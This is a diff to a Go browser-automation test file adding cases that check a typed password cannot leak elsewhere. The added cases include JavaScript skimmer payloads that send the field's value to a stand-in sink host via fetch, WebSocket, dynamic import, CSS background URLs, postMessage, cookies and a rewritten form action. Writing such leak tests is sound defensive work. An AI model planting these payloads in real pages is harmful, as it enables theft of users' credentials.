@@ -1,6 +1,7 @@
 package browser
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 
@@ -63,7 +64,18 @@ func lookup(from routine.Source, name string) func(*secretAttempt) (string, erro
 	}
 }
 
+// inAnyField is what a routine does with a secret that may be typed into any field.
+func inAnyField(do func(*secretAttempt) error) func(*secretAttempt) error {
+	return func(a *secretAttempt) error {
+		if a.typing.Release != nil {
+			a.typing.Release.Rules.Field = routine.FieldAny
+		}
+		return do(a)
+	}
+}
+
 const (
+	editable     = `<div id=p contenteditable></div>`
 	secretField  = `<input id=p type=password>`
 	copyingField = `<input id=p type=password oninput="dataset.v = sessionStorage.v = localStorage.v = window.v = value; m.content = value"><meta id=m name=m>`
 )
@@ -104,6 +116,28 @@ func TestSecretGoesNowhereElse(t *testing.T) {
 			onfocus="this.form.setAttribute('action', 'SINK/got')"><button id=b>b</button></form>`, leaks: true, code: denied, words: "is sent to"},
 		{name: "form sent by mail", page: `<form action="mailto:a@SINKHOST"><input id=p name=p type=password></form>`, code: denied, words: "mailto:"},
 
+		{name: "skimmer at input", page: `<input id=p type=password oninput="fetch('SINK/got', {method: 'POST', mode: 'no-cors', body: value})">`, leaks: true},
+		{name: "form whose action changes when it is sent", page: `<form action=SHOP/x method=post onsubmit="this.action = 'SINK/got'">
+			<input id=p name=p type=password><button id=b>b</button></form>`, leaks: true, code: denied, words: "the request has secret shop"},
+		{name: "Referer of a page that a form with GET leads to", page: `<form action=SHOP/next><input id=p name=p type=password><button id=b>b</button></form>`,
+			site: map[string]string{"next": `<script>fetch('SINK/got', {mode: 'no-cors', referrerPolicy: 'unsafe-url'})</script>`}, leaks: true},
+		{name: "name of the window, on a page of another port", page: `<input id=p type=password oninput="window.name = value"><a id=b href=SINK/name>b</a>`,
+			leaks: true},
+		{name: "module", page: `<input id=p type=password oninput="import('SINK/got?' + encodeURIComponent(value))">`, leaks: true},
+		{name: "background of a style", page: `<input id=p type=password oninput="document.body.style.background =
+			'url(SINK/got?' + encodeURIComponent(value) + ')'">`, leaks: true},
+		{name: "message to a frame of another port", page: `<iframe src=SINK/relay></iframe>
+			<input id=p type=password oninput="frames[0].postMessage(value, '*')">`, leaks: true},
+		{name: "WebSocket, for a secret that confines the run", page: `<input id=p type=password oninput="
+			new WebSocket('ws://SINKHOST/got?' + encodeURIComponent(value))">`, leaks: true, do: func(a *secretAttempt) error {
+			if a.typing.Release != nil {
+				a.typing.Release.Rules.Confine = true
+			}
+			return a.typeIt()
+		}},
+		{name: "cookie, to another port", page: `<input id=p type=password oninput="document.cookie = 'v=' + value"><a id=b href=SINK/got>b</a>`,
+			leaks: true, code: denied, words: "could not be opened: the request has secret shop"},
+
 		{name: "page of another port", do: func(a *secretAttempt) error {
 			if _, err := a.p.Navigate(a.ctx, a.sink+"/login"); err != nil {
 				return err
@@ -139,6 +173,24 @@ func TestSecretGoesNowhereElse(t *testing.T) {
 			do: readBy(`return [...new FormData(p.form)]`), leaks: true, code: exposed},
 		{name: "script that copies the field", page: secretField, do: readBy(`return structuredClone({v: p.cloneNode().value || p.value})`),
 			leaks: true, code: exposed},
+		{name: "script that draws it", page: secretField, do: readBy(`const c = document.createElement('canvas').getContext('2d')
+			c.fillText(p.value, 0, 9); return c.canvas.toDataURL()`), code: exposed},
+		{name: "script that selects an editable element", page: editable,
+			do: inAnyField(readBy(`getSelection().selectAllChildren(p); return String(getSelection())`)), leaks: true, code: exposed},
+		{name: "script that serializes an editable element", page: editable,
+			do: inAnyField(readBy(`return new XMLSerializer().serializeToString(p)`)), leaks: true, code: exposed},
+		{name: "script that passes it through collections", page: secretField,
+			do: readBy(`return Object.fromEntries(new Map([['a', [...new Set([p.value])]]]))`), leaks: true, code: exposed},
+		{name: "script that shows the field's text", page: secretField, do: readBy(`p.type = 'text'; p.select(); return p.value.slice(p.selectionStart)`),
+			leaks: true, code: exposed},
+		{name: "script that sends the form elsewhere afterwards",
+			page: `<form action=SHOP/x method=post><input id=p name=p type=password><button id=b>b</button></form>`,
+			do: func(a *secretAttempt) error {
+				return errorsOrClick(a, readBy(fmt.Sprintf(`p.form.action = %q`, a.sink+"/got"))(a))
+			}, leaks: true, code: exposed, words: "holds secret shop"},
+		{name: "script reads a field in a shadow root", page: `<x-y></x-y><script>
+			document.querySelector('x-y').attachShadow({mode: 'open'}).innerHTML = '<input id=p type=password>'</script>`,
+			do: readBy(`return document.querySelector('x-y').shadowRoot.querySelector('#p').value`), leaks: true, code: exposed},
 		{name: "script in the shop's page reads a frame", page: `<iframe src=in></iframe>`, site: map[string]string{"in": secretField},
 			do: readBy(`return document.querySelector('iframe').contentDocument.querySelector('#p').value`), leaks: true, code: exposed},
 		{name: "script reads half that the page has kept", page: copyingField,
